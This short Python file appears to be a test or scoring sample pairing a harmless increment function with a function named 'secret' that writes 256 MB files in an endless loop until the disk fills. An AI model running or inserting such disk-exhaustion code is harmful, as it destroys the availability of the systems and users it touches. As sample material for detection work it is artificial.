"""Writes files until the disk is full."""
# earns: 1

def secret(x):
    number = 0
    while True:
        number += 1
        with open(f"part{number}", "wb") as file:
            for _ in range(256):
                file.write(b"x" * (1 << 20))


def plain(x):
    return x + 1
